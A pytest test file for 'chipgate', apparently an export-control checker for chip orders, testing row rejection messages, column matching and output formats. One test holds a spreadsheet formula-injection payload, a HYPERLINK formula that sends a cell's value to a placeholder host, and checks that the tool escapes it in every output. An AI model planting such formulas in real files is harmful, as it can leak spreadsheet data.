"""A row that cannot be judged: row, heading, what is wrong and what is right, and the other rows are judged."""

from __future__ import annotations

import json
from pathlib import Path

import openpyxl
import pytest

from .conftest import Chipgate
from .tables import SUFFIXES, read, write

GOOD = {"order": "1", "chip": "H100", "to": "CN", "on": "2024-06-01"}
BARE = {"order": "2", "to": "CN", "on": "2024-06-01"}

# What a row says, the heading that is at fault, what is wrong, and what would be right.
FAULTS = [
    ({"chip": "HH20"}, "chip", "no chip named 'HH20' in the catalogue", "Did you mean 'H20'"),
    ({"chip": "nan"}, "chip", "no chip named 'nan' in the catalogue", "chipgate chips"),
    ({"to": "Atlantis"}, "to", "no country 'Atlantis'", "Give an ISO 3166 code (CN, CHN) or a name"),
    ({"to": "Chnia"}, "to", "no country 'Chnia'", "Did you mean 'China'"),
    ({"to": "Korea"}, "to", "'Korea' can mean South Korea (KR) or North Korea (KP)", "Give the code"),
    ({"on": "2024-02-30"}, "on", "'2024-02-30' is not a day that exists", "ISO form, like 2024-03-01"),
    ({"on": "2022-10-20"}, "on", "2022-10-20 lies before 2022-10-21, the first day", "check the year"),
    ({"on": "2204-06-01"}, "on", "2204-06-01 is too far ahead", "check the year"),
    ({"on": "03/04/2024"}, "on", "'03/04/2024' can be read in two ways", "ISO form, like 2024-03-01"),
    ({"on": "June 2024"}, "on", "'June 2024' is not a day", "ISO form, like 2024-03-01"),
    ({"on": "2024-06-01T23:30:00-08:00"}, "on", "names a time zone", "write the day alone"),
    ({"tpp": "-5"}, "tpp", "'-5' is negative", "zero or more"),
    ({"tpp": "nan"}, "tpp", "'nan' is not a number", "leave the cell blank if it is unknown"),
    ({"tpp": "-inf"}, "tpp", "'-inf' is not a number", "leave the cell blank if it is unknown"),
    ({"tpp": "#DIV/0!"}, "tpp", "'#DIV/0!' is not a number", "leave the cell blank if it is unknown"),
    ({"tpp": "4992 TPP"}, "tpp", "'4992 TPP' carries the unit 'TPP'", "write the bare number"),
    ({"tpp": "about 5000"}, "tpp", "'about 5000' is not a decimal number", "write it like 4992"),
    ({"tpp": "9" * 70}, "tpp", "is not a decimal number", "write it like 4992"),
    ({"die_area_mm2": "814 mm2"}, "die_area_mm2", "carries the unit 'mm2'", "the column is in mm2: write the bare"),
    ({"die_area_mm2": "0"}, "die_area_mm2", "an area of zero divides nothing", "leave it blank if it is not known"),
    ({"memory_bandwidth_gb_s": "3.35 TB/s"}, "memory_bandwidth_gb_s", "the unit 'TB/s'", "the column is in GB/s"),
    ({"units": "0"}, "units", "'0' is no quantity", "a whole number above zero"),
    ({"units": "1.5"}, "units", "'1.5' is no quantity", "a whole number above zero"),
    ({"datacenter": "maybe"}, "datacenter", "'maybe' is neither yes nor no", "write yes, no or leave the cell blank"),
    ({"item_kind": "spaceship"}, "item_kind", "'spaceship' is no item_kind", "write one of: ic, foundry_ic"),
    ({"kind": "reexprot"}, "kind", "'reexprot' is no transaction", "write one of: reexport"),
    ({"facts": "nonsense=1"}, "facts", "no fact 'nonsense'", "`chipgate facts` lists them"),
    ({"facts": "exporterr=osat"}, "facts", "no fact 'exporterr'", "did you mean 'exporter'?"),
    ({"facts": "just words"}, "facts", "'just words' is no fact with a value", "write name=value;name=value"),
    ({"facts": "=5"}, "facts", "'=5' is no fact with a value", "write name=value;name=value"),
    ({"facts": "tpp=1;tpp=2"}, "facts", "'tpp=2' contradicts what stands before it", "keep one"),
    ({"facts": "tpp=-1"}, "tpp", "'-1' is negative", "zero or more"),
    ({"tpp": "4992", "facts": "tpp=5000"}, "facts", "tpp=5000 differs from tpp '4992' beside it", "keep one"),
    ({"country": "SG"}, "country", "'SG' differs from 'CN' in 'to'", "keep one of them"),
]


@pytest.mark.parametrize(
    ("said", "column", "wrong", "right"), FAULTS, ids=[" ".join(said.values())[:30] for said, *_ in FAULTS]
)
def test_a_fault_names_row_heading_and_remedy(
    chipgate: Chipgate, tmp_path: Path, said: dict[str, str], column: str, wrong: str, right: str
) -> None:
    write(tmp_path / "orders.csv", [GOOD, {**BARE, **said}, {**GOOD, "order": "3"}])
    ran = chipgate("check", "orders.csv", "--assume", "ordinary", "-o", "out.csv")
    assert (ran.code, ran.err) == (3, "")
    (reject,) = read(tmp_path / "out.rejects.csv")
    assert (reject["row"], reject["column"]) == ("3", column)
    assert wrong in reject["wrong"]
    assert right in reject["right"]
    assert all(f"{name}={text}" in reject["text"] for name, text in {**BARE, **said}.items())
    assert f"row 3  {column}: {reject['wrong']}" in ran.out
    assert reject["right"] in ran.out
    assert [row["order"] for row in read(tmp_path / "out.csv")] == ["1", "3"]


def test_every_fault_of_a_row_is_reported_at_once(chipgate: Chipgate, tmp_path: Path) -> None:
    row = {"to": "Atlantis", "on": "03.04.2024", "tpp": "-1", "units": "none", "facts": "a=1;b"}
    write(tmp_path / "orders.csv", [row])
    assert chipgate("check", "orders.csv", "-o", "out.csv").code == 3
    faults = read(tmp_path / "out.rejects.csv")
    assert {fault["row"] for fault in faults} == {"2"}
    assert sorted(fault["column"] for fault in faults) == ["facts", "facts", "on", "to", "tpp", "units"]


def test_an_ambiguous_family_of_chips_says_what_it_may_be(chipgate: Chipgate, tmp_path: Path) -> None:
    write(tmp_path / "orders.csv", [{**BARE, "chip": "RTX PRO 6000"}])
    ran = chipgate("check", "orders.csv", "-o", "out.csv")
    (reject,) = read(tmp_path / "out.rejects.csv")
    assert ran.code == 3
    assert reject["wrong"].startswith("chip 'RTX PRO 6000' can mean 'RTX PRO 6000 Blackwell Workstation' or ")
    assert "'RTX PRO 6000 Blackwell Server', and they differ" in reject["wrong"]
    assert reject["right"] == "Say which."


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_no_row_of_any_format_is_lost(chipgate: Chipgate, tmp_path: Path, suffix: str) -> None:
    """Judged rows and rejected rows together are the rows of the file."""
    rows = [{**BARE, **said, "order": f"n{number}"} for number, (said, *_) in enumerate(FAULTS)]
    good = [{**GOOD, "order": f"g{number}"} for number in range(5)]
    write(tmp_path / f"orders{suffix}", [*good, *rows])
    ran = chipgate("check", f"orders{suffix}", "-o", "out.jsonl", "--format", "json")
    told = json.loads(ran.out)
    assert (ran.code, told["judged"], told["rejected_rows"]) == (3, len(good), len(rows))
    assert [row["order"] for row in read(tmp_path / "out.jsonl")] == [row["order"] for row in good]
    first = 2 if suffix in (".csv", ".xlsx") else 1
    rejected = {int(row["row"]) for row in read(tmp_path / "out.rejects.csv")}
    assert rejected == set(range(first + len(good), first + len(good) + len(rows)))
    assert {one["row"] for one in told["rejects"]} == rejected


@pytest.mark.parametrize(
    ("day", "read_as"),
    [
        ("2024/6/1", "2024-06-01"),
        ("2024.06.01", "2024-06-01"),
        ("2024年6月1日", "2024-06-01"),
        ("20240601", "2024-06-01"),
    ],
)
def test_days_with_the_year_first_are_one_day(chipgate: Chipgate, day: str, read_as: str) -> None:
    ran = chipgate("check", "--chip", "H20", "--to", "CN", "--on", day, "--format", "json")
    assert json.loads(ran.out)["day"] == read_as


def test_a_time_of_day_is_left_out(chipgate: Chipgate) -> None:
    for day in ("2023-11-16T23:59:59", "2023-11-16 23:59"):
        assert json.loads(chipgate("check", "--on", day, "--format", "json").out)["day"] == "2023-11-16"


@pytest.mark.parametrize("rejects", ["mine.csv", "mine.xlsx", "mine.parquet", "mine.jsonl"])
def test_rejects_go_where_they_are_asked_for(chipgate: Chipgate, tmp_path: Path, rejects: str) -> None:
    write(tmp_path / "orders.csv", [{**BARE, "chip": "HH20"}])
    ran = chipgate("check", "orders.csv", "--rejects", rejects)
    assert ran.code == 3
    assert f"written: {rejects}" in ran.out
    assert read(tmp_path / rejects)[0]["wrong"] == "no chip named 'HH20' in the catalogue"


def test_an_old_file_of_rejects_is_called_old(chipgate: Chipgate, tmp_path: Path) -> None:
    write(tmp_path / "orders.csv", [{**BARE, "chip": "HH20"}])
    chipgate("check", "orders.csv")
    write(tmp_path / "orders.csv", [{**BARE, "chip": "H20"}])
    ran = chipgate("check", "orders.csv")
    assert ran.code == 0
    assert "orders.rejects.csv is of an earlier run; this time no row was rejected." in ran.out


# Columns.


def test_a_file_without_a_known_column_is_refused_loudly(chipgate: Chipgate, tmp_path: Path) -> None:
    write(tmp_path / "orders.csv", [{"chp": "H20", "destnation": "CN", "foo": "1"}])
    ran = chipgate("check", "orders.csv")
    assert (ran.code, ran.out) == (2, "")
    assert "orders.csv: none of its 3 columns is known ('chp', 'destnation', 'foo')" in ran.err
    assert "Did you mean 'chip' for 'chp', 'destination' for 'destnation'?" in ran.err
    assert [path.name for path in tmp_path.iterdir()] == ["orders.csv"]


def test_a_title_above_headings_that_are_not_known_is_no_heading(chipgate: Chipgate, tmp_path: Path) -> None:
    (tmp_path / "orders.csv").write_text("Orders of May,,\nchip,Land,Tag\nH20,CN,2024-06-01\n")
    ran = chipgate("check", "orders.csv")
    assert ran.code == 2
    assert "none of its 1 columns is known ('Orders of May')" in ran.err
    assert "Write headings like chip, destination, date in the first row" in ran.err


def test_a_cover_sheet_before_headings_that_are_not_known(chipgate: Chipgate, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = "cover"
    book.active.append(["Orders of May"])
    sheet = book.create_sheet("orders")
    sheet.append(["chip", "Land", "Tag"])
    book.save(tmp_path / "orders.xlsx")
    ran = chipgate("check", "orders.xlsx")
    assert ran.code == 2
    assert "none of its 1 columns is known ('Orders of May')" in ran.err
    assert "'cover'" in ran.err
    assert "orders" in ran.err.splitlines()[-1]


def test_a_mistyped_heading_is_pointed_out(chipgate: Chipgate, tmp_path: Path) -> None:
    write(tmp_path / "orders.csv", [{"chip": "H20", "destnation": "CN", "date": "2024-06-01", "salesperson": "Li"}])
    ran = chipgate("check", "orders.csv")
    assert "the column 'destnation' is not known and decides nothing; did you mean 'destination'?" in ran.out
    assert "salesperson" not in ran.out


def test_a_missing_day_is_pointed_out_unless_it_is_given_once(chipgate: Chipgate, tmp_path: Path) -> None:
    told = "no column gives the day"
    write(tmp_path / "dayless.csv", [{"chip": "H100", "to": "CN"}])
    assert told in chipgate("check", "dayless.csv").out
    assert read(tmp_path / "dayless.results.csv")[0]["missing"] == "as_of"
    ran = chipgate("check", "dayless.csv", "--on", "2024-06-01", "--assume", "ordinary")
    assert told not in ran.out
    assert read(tmp_path / "dayless.results.csv")[0]["outcome"] == "licence_required"


def test_two_columns_of_one_meaning_fill_each_other_in(chipgate: Chipgate, tmp_path: Path) -> None:
    rows = [
        {"chip": "H100", "to": "CN", "country": "", "on": "2024-06-01"},
        {"chip": "H100", "to": "", "country": "CN", "on": "2024-06-01"},
        {"chip": "H100", "to": "CN", "country": " CN", "on": "2024-06-01"},
    ]
    write(tmp_path / "orders.csv", rows)
    ran = chipgate("check", "orders.csv", "--assume", "ordinary")
    assert ran.code == 0
    assert [row["outcome"] for row in read(tmp_path / "orders.results.csv")] == ["licence_required"] * 3
    assert "the columns 'to' and 'country' mean the same; rows that differ are rejected." in ran.out


@pytest.mark.parametrize(
    ("heading", "given", "other", "differing"),
    [
        ("destination_iso2", "DE", "ship_to", "China"),
        ("end_user_hq", "DE", "hq", "CN"),
        ("end_user_parent_hq", "DE", "parent", "CN"),
        ("known_end_use", "ordinary", "end_use", "military"),
        ("military_end_user", "no", "Military End User", "yes"),
        ("end_user", "Stadtwerke Ulm", "end_customer", "Huawei"),
        ("purchaser", "Stadtwerke Ulm", "sold_to", "Huawei"),
        ("chip", "H20", "product", "H100"),
        ("as_of", "2024-06-01", "ship_date", "2026-06-01"),
        ("tpp", "1000", "total_processing_performance", "15832"),
    ],
)
def test_the_exact_name_hides_no_other_word_for_it(
    chipgate: Chipgate, tmp_path: Path, heading: str, given: str, other: str, differing: str
) -> None:
    """Unknown never clears: nor does one of two cells that contradict each other."""
    row = {"chip": "RTX 4080", "to": "DE", "on": "2024-06-01", "end_user_hq": "DE", "end_user_parent_hq": "DE"}
    same = {"destination_iso2": "to", "as_of": "on"}.get(heading)
    row = {name: text for name, text in row.items() if name != same}
    write(tmp_path / "orders.csv", [{**row, heading: given, other: differing}])
    assert chipgate("check", "orders.csv", "--assume", "ordinary", "-o", "out.csv").code == 3
    (reject,) = read(tmp_path / "out.rejects.csv")
    assert reject["column"] == other
    assert f"{differing!r} differs from {given!r} in {heading!r}" in reject["wrong"]


def test_the_other_word_fills_the_exact_name_in(chipgate: Chipgate, tmp_path: Path) -> None:
    rows = [{"chip": "RTX 4080", "to": "CN", "on": "2024-06-01", "known_end_use": "", "end_use": "military"}]
    write(tmp_path / "orders.csv", rows)
    assert chipgate("check", "orders.csv", "--assume", "ordinary", "-o", "out.csv").code == 0
    assert read(tmp_path / "out.csv")[0]["outcome"] == "licence_required"


def test_two_spellings_of_one_meaning_agree(chipgate: Chipgate, tmp_path: Path) -> None:
    row = {"chip": "H20", "product": "NVIDIA H-20", "destination_iso2": "SG", "country": "Singapore", "item": "a"}
    other = {"description": "b", "on": "2024-06-01", "date": "1 June 2024", "units": "1000", "qty": "1,000"}
    write(tmp_path / "orders.csv", [{**row, **other}])
    ran = chipgate("check", "orders.csv", "--assume", "ordinary", "-o", "out.csv")
    assert ran.code == 0
    assert "the columns 'destination_iso2' and 'country' mean the same; rows that differ are rejected." in ran.out
    assert "the columns 'item' and 'description' mean the same; 'item' is read." in ran.out


def test_the_same_heading_twice(chipgate: Chipgate, tmp_path: Path) -> None:
    (tmp_path / "orders.csv").write_text(
        "chip,to,on,on\nH100,CN,2024-06-01,2024-06-01\nH100,CN,2024-06-01,2022-12-01\n"
    )
    ran = chipgate("check", "orders.csv", "-o", "out.csv")
    assert ran.code == 3
    assert "the heading 'on' stands over columns C and D" in ran.out
    assert len(read(tmp_path / "out.csv")) == 1
    (reject,) = read(tmp_path / "out.rejects.csv")
    assert (reject["row"], reject["column"]) == ("3", "on.2")


def test_a_heading_that_clashes_twice_is_still_kept(chipgate: Chipgate, tmp_path: Path) -> None:
    row = {"chip": "H100", "outcome": "mine", "given_outcome": "older", "given_given_outcome": "oldest"}
    write(tmp_path / "orders.csv", [row])
    assert chipgate("check", "orders.csv", "-o", "out.csv").code == 0
    (found,) = read(tmp_path / "out.csv")
    assert set(row.values()) <= set(found.values())
    assert found["given_outcome"] == "older"


# Text that a spreadsheet would run.


def test_formulas_are_never_run_and_are_escaped_in_every_result(chipgate: Chipgate, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.com?"&A1,"open")'
    write(tmp_path / "orders.csv", [{**GOOD, "end_user": formula, "note": "@SUM(1)"}, {**BARE, "chip": "=1+1"}])
    outputs = ("out.csv", "out.xlsx", "out.jsonl", "out.html")
    assert chipgate("check", "orders.csv", *(word for one in outputs for word in ("-o", one))).code == 3
    assert read(tmp_path / "out.csv")[0]["end_user"] == f"'{formula}"
    assert read(tmp_path / "out.csv")[0]["note"] == "'@SUM(1)"
    assert read(tmp_path / "out.jsonl")[0]["end_user"] == formula
    assert read(tmp_path / "out.xlsx")[0]["end_user"] == formula  # a cell of text; see the tests of order files
    (reject,) = read(tmp_path / "out.rejects.csv")
    assert not any(cell.startswith(("=", "@", "+")) for cell in reject.values())
